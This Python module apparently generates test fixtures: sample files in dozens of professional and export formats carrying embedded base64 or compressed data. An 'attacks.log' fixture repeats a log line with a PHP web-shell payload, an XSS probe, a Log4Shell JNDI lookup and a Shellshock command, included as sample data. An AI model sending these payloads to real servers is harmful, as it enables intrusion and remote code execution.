"""What people of further trades send: architects, laboratories, courts, banks, musicians, teachers, programmers; and exports of
accounts. Base64 stands in lines that end with a quotation mark, a bracket or a tag."""

import base64
import bz2
import gzip
import io
import json
import lzma
import sqlite3
import struct
import tarfile
import tempfile
import zlib

from exports import XML, encoded, lines, paper
from letters import letter
from making import OCTETS, jpeg, noise, png, zipped

JSON = ["application/json", "text/json"]
TEXT = ["text/plain", *OCTETS]
ZIP = ["application/zip", "application/x-zip-compressed", *OCTETS]
WORDS = "".join(f"{n * 7919 % 10007} words " for n in range(300)).encode()


def packed(members: dict, mode="w:gz") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for name, body in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(body)
            archive.addfile(entry, io.BytesIO(body))
    return out.getvalue()


def database(statement: str, rows) -> bytes:
    with tempfile.NamedTemporaryFile(suffix=".sqlite") as file:
        with sqlite3.connect(file.name) as connection:
            connection.execute("create table t(a, b)")
            connection.executemany(statement, rows)
        connection.close()
        return file.read()


def blocks(body: bytes) -> bytes:
    """BGZF: gzip members of at most 64 KiB that name their size."""
    out = b""
    for start in range(0, len(body), 60000):
        piece = body[start : start + 60000]
        coder = zlib.compressobj(6, zlib.DEFLATED, -15)
        data = coder.compress(piece) + coder.flush()
        out += bytes.fromhex("1f8b08040000000000ff060042430200") + struct.pack("<H", len(data) + 25) + data
        out += struct.pack("<II", zlib.crc32(piece), len(piece))
    return out + bytes.fromhex("1f8b08040000000000ff0600424302001b0003000000000000000000")


def offices():
    yield "model.skp", b"\xff\xfe\xff\x0e" + "SketchUp Model".encode("utf-16-le") + b"\xff\xfe\xff\x0a" + "{23.0.419}".encode("utf-16-le") + noise(300) + zipped({"document.xml": b"<a/>", "materials/a.jpg": jpeg()}), ["application/vnd.sketchup.skp", *OCTETS]
    yield "plan.dwf", b"(DWF V06.00)" + zipped({"manifest.xml": b"<dwf:Manifest/>", "a.w2d": b"(W2D V06.00)" + noise(500)}), ["model/vnd.dwf", "drawing/x-dwf", *OCTETS]
    yield "scan.e57", b"ASTM-E57" + struct.pack("<IIQQQQ", 1, 0, 4096, 48, 1000, 1024) + noise(2000) + b'<?xml version="1.0"?><e57Root type="Structure"/>'.ljust(2000, b"\0"), ["model/e57", *OCTETS]
    yield "lamp.ies", b"IESNA:LM-63-2002\r\n[TEST] 1\r\nTILT=NONE\r\n" + WORDS, TEXT
    yield "weather.epw", b"LOCATION,Berlin,-,DEU,IWEC,103840,52.47,13.40,1.0,49.0\r\n" + b"1996,1,1,1,60,C9C9C9C9*0?9?9?9?9?9?9*0B8B8B8*0*0E8*0*0,-1.0,-2.1,92,100600\r\n" * 90, TEXT
    yield "board.kicad_pcb", b'(kicad_pcb\n\t(embedded_files\n\t\t(file\n\t\t\t(name "sheet.gz")\n\t\t\t(data\n|' + lines(gzip.compress(WORDS)).rstrip().replace("\n", "\n ").encode() + b'|\n\t\t\t)\n\t\t)\n\t)\n)\n', ["application/x-kicad-pcb", *TEXT]
    yield "parasolid.x_t", b"**ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_`abcdefghijklmnopqrstuvwxyz{|}~0123456789**\n**PART1;\nMC=x;\n**END_OF_HEADER**\nT51 : TRANSMIT FILE " + WORDS, TEXT
    yield "court.xml", f'<?xml version="1.0" encoding="UTF-8"?>\n<nachricht.gds xmlns="http://www.xjustiz.de"><dokument><inhalt>{lines(zipped({"a.txt": WORDS})).rstrip()}</inhalt></dokument></nachricht.gds>'.encode(), XML
    yield "form.xdp", f'<?xml version="1.0" encoding="UTF-8"?>\n<?xfa generator="AdobeLiveCycleDesigner"?>\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><pdf xmlns="http://ns.adobe.com/xdp/pdf/"><document><chunk>\n{lines(paper()).rstrip()}</chunk></document></pdf></xdp:xdp>'.encode(), ["application/vnd.adobe.xdp+xml", *XML]
    yield "tax.xml", f'<?xml version="1.0" encoding="UTF-8"?><Elster xmlns="http://www.elster.de/elsterxml/schema/v11"><Kompression>GZIP</Kompression><DatenTeil>{lines(gzip.compress(WORDS)).rstrip()}</DatenTeil></Elster>'.encode(), XML
    yield "keys.xml", f'<?xml version="1.0"?><ebicsUnsecuredRequest xmlns="urn:org:ebics:H004"><OrderData>{encoded(zlib.compress(WORDS))}</OrderData></ebicsUnsecuredRequest>'.encode(), XML
    yield "balance.xbrl", b'<?xml version="1.0"?><xbrl xmlns="http://www.xbrl.org/2003/instance">' + b'<a:b contextRef="c1" unitRef="EUR" decimals="0">12345</a:b>\n' * 90 + b"</xbrl>", ["application/xbrl-instance+xml", *XML]
    yield "cuttings.mid", b"12,\"Street\",\"North\"\r\n" * 40, ["audio/midi", "audio/mid", *TEXT]
    yield "crash.core", core(), ["application/x-core", "application/x-coredump", *OCTETS]


def core() -> bytes:
    """The memory of a crashed program as the kernel writes it, in 300 stretches."""
    head = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 4, 62, 1, 0, 64, 0, 0, 64, 56, 300, 0, 0, 0)
    rows = [struct.pack("<IIQQQQQQ", 1, 4, 32768 + 64 * n, n << 20, 0, 64, 64, 4096) for n in range(300)]
    return head + b"".join(rows) + noise(40000)


def laboratories():
    calls = "##fileformat=VCFv4.2\n#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\n" + "".join(f"1\t{n * 7}\t.\tA\tG\t50\tPASS\tDP=9\n" for n in range(6000))
    yield "calls.vcf.bgz", blocks(calls.encode()), ["application/gzip", "text/vcard", *OCTETS]
    yield "calls.vcf", calls.encode(), ["text/vcard", "text/x-vcard", *TEXT]
    yield "calls.bcf", blocks(b"BCF\2\2" + noise(3000)), OCTETS
    yield "brain.nrrd", b"NRRD0005\ntype: short\ndimension: 3\nsizes: 16 16 8\nendian: little\nencoding: gzip\n\n" + gzip.compress(bytes(n % 251 for n in range(4096))), OCTETS
    yield "brain.mha", b"ObjectType = Image\nNDims = 3\nBinaryData = True\nCompressedData = True\nDimSize = 16 16 8\nElementType = MET_SHORT\nElementDataFile = LOCAL\n" + zlib.compress(bytes(n % 251 for n in range(4096))), OCTETS
    peaks = "".join(f"<binary>{encoded(zlib.compress(struct.pack('<200d', *(400 + n + m * 1.1 for m in range(200)))))}</binary>" for n in range(30))
    yield "run.mzML", f'<?xml version="1.0" encoding="utf-8"?>\n<indexedmzML xmlns="http://psi.hupo.org/ms/mzml">{peaks}</indexedmzML>'.encode(), XML
    yield "sample.pzfx", f'<?xml version="1.0" encoding="UTF-8"?><GraphPadPrismFile xmlns="http://graphpad.com/prism/Prism.htm"><Template dt:dt="bin.base64">{lines(zlib.compress(WORDS)).rstrip()}</Template></GraphPadPrismFile>'.encode(), XML
    yield "frame.RData", lzma.compress(b"RDX3\nX\n" + noise(2000)), ["application/x-rdata", *OCTETS]
    yield "frame.rda", bz2.compress(b"RDX3\nX\n" + noise(2000)), OCTETS
    yield "reads.cram", b"CRAM\3\0" + noise(4000), OCTETS
    yield "trace.ab1", b"ABIF" + struct.pack(">H4sIHHIIII", 101, b"tdir", 1, 1023, 28, 5, 140, 128, 0) + noise(3000), OCTETS
    yield "signals.bw", struct.pack("<IHHQQQ", 0x888FFC26, 4, 7, 64, 300, 500) + zlib.compress(noise(600)) + noise(900), OCTETS
    yield "examination.gdt", b"01380006310\r\n014810000044\r\n0143000123\r\n" * 20, TEXT


def studios():
    yield "song.nwc", b"[NWZ]\0" + zlib.compress(b"[NoteWorthy ArtWare]\0\0\0[NoteWorthy Composer]\0" + noise(900)), OCTETS
    yield "patch.syx", b"\xf0\x43\x00\x09\x20\x00" + bytes(n % 128 for n in range(4096)) + b"\xf7", OCTETS
    yield "preset.fxp", b"CcnK" + struct.pack(">I4sI4sII", 500, b"FPCh", 1, b"XfsX", 1, 1) + b"Init".ljust(28, b"\0") + struct.pack(">I", 440) + zlib.compress(noise(400)), OCTETS
    yield "tune.xm", b"Extended Module: tune".ljust(37) + b"\x1aFastTracker v2.00   " + struct.pack("<HI", 0x104, 276) + noise(4000), ["audio/xm", "audio/x-mod", *OCTETS]
    yield "tune.abc", b"X:1\nT:Tune\nM:4/4\nK:C\n" + b"CDEF GABc|\n" * 40, ["text/vnd.abc", *TEXT]
    yield "film.ass", b"\xef\xbb\xbf[Script Info]\r\nScriptType: v4.00+\r\n\r\n[Fonts]\r\nfontname: a_0.ttf\r\n" + b"\r\n".join(bytes(33 + byte % 64 for byte in noise(80, n)) for n in range(50)) + b"\r\n\r\n[Events]\r\nDialogue: 0,0:00:01.00,0:00:02.00,Default,,0,0,0,,Hi\r\n", ["text/x-ssa", *TEXT]
    yield "film.scc", b"Scenarist_SCC V1.0\n\n00:00:00:00\t9420 9420 94ae 94ae 9470 9470 c8e5 ecec ef80\n\n" * 20, TEXT
    yield "film.stl", b"850STL25.01".ljust(1024) + noise(128 * 9), ["model/stl", "application/vnd.ms-pki.stl", *OCTETS]
    yield "brush.abr", struct.pack(">HH", 6, 2) + b"8BIMsamp" + struct.pack(">I", 900) + noise(900) + b"8BIMdesc" + struct.pack(">I", 200) + noise(200), OCTETS
    yield "colours.ase", b"ASEF\0\1\0\0\0\0\0\1\0\1\0\0\0\x20" + noise(32), OCTETS
    yield "catalog.lrcat", database("insert into t values(1, ?)", [(struct.pack(">I", 900) + zlib.compress(b"<x:xmpmeta/>" * 90),) for _ in range(60)]), ["application/vnd.sqlite3", *OCTETS]


def schools():
    yield "quiz.h5p", zipped({"h5p.json": b"{}", "content/content.json": b"{}", "content/images/a.png": png(), "H5P.Quiz-1.0/a.js": b"var a = 1;"}), ["application/vnd.h5p", *ZIP]
    yield "triangle.ggb", zipped({"geogebra.xml": b"<geogebra/>", "geogebra_javascript.js": b"function ggbOnInit() {}", "geogebra_thumbnail.png": png()}), ["application/vnd.geogebra.file", *ZIP]
    yield "course.mbz", packed({"moodle_backup.xml": b"<moodle_backup/>", "files/aa/aabbcc": paper(), ".ARCHIVE_INDEX": b"Moodle archive file index. Count: 1\n"}), ["application/vnd.moodle.backup", "application/gzip", *OCTETS]
    yield "lesson.scorm.zip", zipped({"imsmanifest.xml": b'<?xml version="1.0"?><manifest/>', "index.html": b'<!DOCTYPE html><script src="a.js"></script>', "a.js": b"x = 1"}), ZIP
    yield "work.nb", b"(* Content-type: application/vnd.wolfram.mathematica *)\nNotebook[{Cell[BoxData[\"1:" + encoded(zlib.compress(WORDS)).encode() + b"\"]]}]\n", ["application/mathematica", *TEXT]


def programmers():
    data = gzip.compress(WORDS)
    yield "embedded.py", b'import base64\n\nDATA = base64.b64decode("""\n' + lines(data).rstrip().encode() + b'""")\n', ["text/x-python", *TEXT]
    yield "embedded.pl", b"use MIME::Base64;\nmy $x = decode_base64('" + lines(zipped({"a.txt": WORDS})).rstrip().encode() + b"');\n", ["text/x-perl", *TEXT]
    yield "embedded.js", b"const a = atob(`" + lines(paper()).rstrip().encode() + b"`);\n", ["text/javascript"]
    yield "embedded.sh", b'#!/bin/sh\nbase64 -d <<< "' + lines(data).rstrip().encode() + b'" | gunzip > words\n', ["text/x-sh", "application/x-sh"]
    yield "quoting.md", b"The page has `data:application/zip;base64," + encoded(zipped({"a.txt": WORDS}))[:80].encode() + b"` and\n`data:application/pdf;base64," + encoded(paper())[:300].encode() + b"...`.\n", ["text/markdown"]
    yield "shortened.log", b"".join(b'2026-01-02 INFO {"body": "data:application/gzip;base64,%s\xe2\x80\xa6"}\n' % encoded(data)[:900].encode() for _ in range(9)), TEXT
    yield "state.tfstate", json.dumps({"version": 4, "resources": [{"instances": [{"attributes": {"user_data_base64": encoded(gzip.compress(b"#cloud-config\npackages: [nginx]\n" * 20))}}]}]}, indent=2).encode(), JSON
    yield "release.yaml", b"apiVersion: v1\nkind: Secret\ntype: helm.sh/release.v1\ndata:\n  release: " + encoded(encoded(data).encode()).encode() + b"\n", ["application/yaml", "text/yaml"]
    yield "package-lock.json", json.dumps({"packages": {f"node_modules/p{n}": {"integrity": "sha512-" + encoded(noise(64, n))} for n in range(200)}}, indent=1).encode(), JSON
    yield "bundle.json", json.dumps({"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json", "rawBytes": encoded(b"\x30\x82\x02\xcf" + noise(719)), "payload": encoded(b'{"_type":"https://in-toto.io/Statement/v1"}' * 9)}).encode(), JSON
    yield "attacks.log", b'203.0.113.9 - - [02/Jan/2026] "GET /index.php?x=<?php+system($_GET[c])+?>&y=<script>alert(1)</script>&z=${jndi:ldap://x/a} HTTP/1.1" 404 12 "-" "() { :; }; id"\n' * 200, TEXT
    yield "mail.log", b"".join(b'Jan  2 10:00:00 mx postfix/smtpd[%d]: reject: from=<a@b> Content-Type: multipart/mixed; boundary="x%d"\n' % (n, n) for n in range(300)), TEXT
    yield "store.jks", bytes.fromhex("feedfeed00000002000000010000000100036162630000018b") + noise(1500), ["application/x-java-keystore", *OCTETS]
    yield "symbols.pdb", b"Microsoft C/C++ MSF 7.00\r\n\x1aDS\0\0\0" + struct.pack("<IIIIII", 4096, 1, 9, 600, 0, 3) + noise(36000), ["chemical/x-pdb", "application/x-ms-pdb", *OCTETS]
    yield "system.journal", b"LPKSHHRH" + struct.pack("<IIB", 0, 4, 1) + noise(64) + bytes.fromhex("28b52ffd") + noise(4000), OCTETS
    yield "flame.svg", b'<?xml version="1.0" standalone="no"?><svg version="1.1" onload="init(evt)" xmlns="http://www.w3.org/2000/svg"><script><![CDATA[ function init(e) {} ]]></script></svg>', ["image/svg+xml"]
    head = json.dumps({"a": {"dtype": "F32", "shape": [100], "data_offsets": [0, 400]}}).encode()
    yield "model.safetensors", struct.pack("<Q", len(head)) + head + noise(400), OCTETS
    yield "chats.jsonl", b"".join(json.dumps({"content": [{"type": "image_url", "image_url": {"url": "data:image/jpeg;base64," + encoded(jpeg())}}]}).encode() + b"\n" for _ in range(20)), ["application/jsonl", "application/json", *TEXT]
    yield "store.duckdb", noise(8) + b"DUCK" + struct.pack("<Q", 64) + noise(12000), OCTETS


def accounts():
    yield "takeout.tgz", packed({"Takeout/Google Photos/a.jpg": jpeg(), "Takeout/Mail/All mail.mbox": b"From 1@xxx Fri Jan 02 10:00:00 +0000 2026\nSubject: a\n\nb\n", "Takeout/archive_browser.html": b"<!DOCTYPE html><html></html>"}), ["application/gzip", "application/x-compressed-tar"]
    yield "mailbox.olm", zipped({"Categories.xml": b"<categories/>", "Local/com.microsoft.__Messages/Inbox/message_00000.xml": b'<?xml version="1.0"?><emails/>', "Local/com.microsoft.__Attachments/a.pdf": paper()}), ZIP
    yield "posts.zip", zipped({"data/tweets.js": b"window.YTD.tweets.part0 = [ ]", "Your archive.html": b'<!DOCTYPE html><html><script src="data/a.js"></script></html>'}), ZIP
    yield "notes.jex", packed({"a.md": b"# a\n\nid: 1\n", "resources/b.png": png()}, "w"), ["application/x-tar", *OCTETS]
    yield "recipes.paprikarecipes", zipped({f"r{n}.paprikarecipe": gzip.compress(json.dumps({"photo_data": encoded(jpeg()), "n": n}).encode()) for n in range(9)}), ZIP
    yield "whiteboard.excalidraw", json.dumps({"type": "excalidraw", "files": {"a": {"dataURL": "data:image/png;base64," + encoded(png())}}}).encode(), ["application/vnd.excalidraw+json", *JSON]
    yield "wiki.html", b'<!doctype html>\n<html><script class="tiddlywiki-tiddler-store" type="application/json">[' + json.dumps({"title": "a.png", "text": encoded(png())}).encode() + b"]</script></html>", ["text/html"]
    yield "tiles.mbtiles", database("insert into t values(1, ?)", [(gzip.compress(noise(400, n)),) for n in range(60)]), ["application/vnd.mapbox-vector-tile", "application/vnd.sqlite3", *OCTETS]
    yield "country.osm.pbf", struct.pack(">I", 13) + b"\x0a\x09OSMHeader\x18\x7c\x10\x6f\x1a" + zlib.compress(noise(90)) + noise(900), OCTETS
    yield "radio.adi", b"<ADIF_VER:5>3.1.0<EOH>\n" + b"<CALL:5>DL1AA<QSO_DATE:8>20260102<EOR>\n" * 50, TEXT
    yield "asset.unitypackage", packed({"aa/asset": png(), "aa/asset.meta": b"guid: 1", "aa/pathname": b"Assets/a.png"}), ["application/gzip", *OCTETS]
    yield "world.mcworld", zipped({"level.dat": noise(200), "db/000005.ldb": noise(3000) + zlib.compress(noise(300)), "world_icon.jpeg": jpeg()}), ZIP
    inner = letter("Undelivered")
    inner.set_content("Words.")
    inner.add_attachment(paper(), "application", "pdf", filename="a.pdf")
    yield "bounce.eml", b'From: MAILER-DAEMON@x\r\nTo: a@b\r\nSubject: Undelivered\r\nMIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status; boundary="R"\r\n\r\n--R\r\n\r\nSorry\r\n--R\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; x\r\n\r\nFinal-Recipient: rfc822; c@d\r\nAction: failed\r\n\r\n--R\r\nContent-Type: message/rfc822\r\n\r\n' + inner.as_bytes() + b"\r\n--R--\r\n", ["message/rfc822"]


def papers():
    import pikepdf

    def saved(change, **options) -> bytes:
        out = io.BytesIO()
        with pikepdf.new() as document:
            document.add_blank_page()
            change(document)
            document.save(out, **options)
        return out.getvalue()

    def form(document):
        field = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="a", V="b", Subtype=pikepdf.Name.Widget, Rect=[0, 0, 9, 9], AA=pikepdf.Dictionary(K=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS='AFNumber_Keystroke(2, 0, 0, 0, "", true);')))
        document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([document.make_indirect(field)]), XFA=pikepdf.Array(["template", document.make_stream(b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><script>1</script></template>')]))

    def fax(document):
        picture = pikepdf.Stream(document, noise(500))
        picture.Subtype, picture.Width, picture.Height, picture.BitsPerComponent = pikepdf.Name.Image, 64, 64, 1
        picture.ColorSpace, picture.Filter = pikepdf.Name.DeviceGray, pikepdf.Name.CCITTFaxDecode
        picture.DecodeParms = pikepdf.Dictionary(K=-1, Columns=64, Rows=64)
        document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=document.make_indirect(picture)))

    def solid(document):
        drawing = document.make_stream(b"U3D\0" + noise(900), Type=pikepdf.Name("/3D"), Subtype=pikepdf.Name.U3D)
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/3D"), Rect=[0, 0, 9, 9], **{"/3DD": drawing}))])

    yield "form-xfa.pdf", saved(form), ["application/pdf"]
    yield "fax.pdf", saved(fax), ["application/pdf"]
    yield "solid.pdf", saved(solid), ["application/pdf"]
    yield "linear.pdf", saved(lambda document: [document.add_blank_page() for _ in range(30)], linearize=True), ["application/pdf"]
    for revision in (3, 6):
        allowed = pikepdf.Encryption(owner="o", user="", R=revision, allow=pikepdf.Permissions(extract=False), aes=revision > 3, metadata=revision > 3)
        yield f"permissions-{revision}.pdf", saved(lambda document: None, encryption=allowed), ["application/pdf"]
    yield "fields.fdf", b"%FDF-1.2\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</FDF<</Fields[<</T(a)/V(b)>>]/F(form.pdf)>>>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n", ["application/vnd.fdf", *OCTETS]


def every():
    yield from offices()
    yield from laboratories()
    yield from studios()
    yield from schools()
    yield from programmers()
    yield from accounts()
    yield from papers()
